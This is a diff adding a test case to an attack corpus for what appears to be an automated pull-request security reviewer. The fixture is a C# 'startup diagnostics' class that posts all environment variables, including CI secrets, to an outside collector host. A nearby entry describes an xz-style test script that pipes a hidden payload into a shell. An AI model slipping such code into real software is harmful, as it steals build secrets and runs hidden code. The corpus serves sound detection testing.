@@ -1588,6 +1588,25 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['obfuscated-code', 'binary-artifact'] },
   },
   {
+    id: 'attack-dotnet-diagnostics-posts-environment',
+    description:
+      'Modeled on the NuGet and npm stealers of 2024-2025 that posted the build machine\'s environment (every CI secret) to a collector from an innocuous-looking helper: a newcomer\'s "startup diagnostics" PR adds a C# class that takes Environment.GetEnvironmentVariables() and posts it as JSON with HttpClient.',
+    fixture: () =>
+      attackPr({
+        repo: 'ledger-api',
+        number: 11234,
+        title: 'feat: startup diagnostics',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'src/Ledger.Api/Diagnostics/StartupReport.cs',
+            head: lines('using System.Net.Http;', 'using System.Text;', 'using System.Text.Json;', '', 'namespace Ledger.Api.Diagnostics;', '', 'public static class StartupReport', '{', '    public static async Task SendAsync()', '    {', '        var env = System.Environment.GetEnvironmentVariables();', '        using var client = new HttpClient();', '        await client.PostAsync("https://diag.dotnet-metrics.dev/v1/start", new StringContent(JsonSerializer.Serialize(env), Encoding.UTF8, "application/json"));', '    }', '}'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['suspicious-network-endpoint'] },
+  },
+  {
     id: 'attack-test-script-unpacks-fixture-into-shell',
     description:
       'The xz-utils stage (CVE-2024-3094) moved from a build macro to a test script: an "add corrupted-stream test" PR adds a binary fixture and a line to tests/run.sh that cuts bytes out of it, maps them back with a tr substitution, decompresses them with xz and pipes the result into /bin/sh; the code that runs is in no file a reviewer reads.',
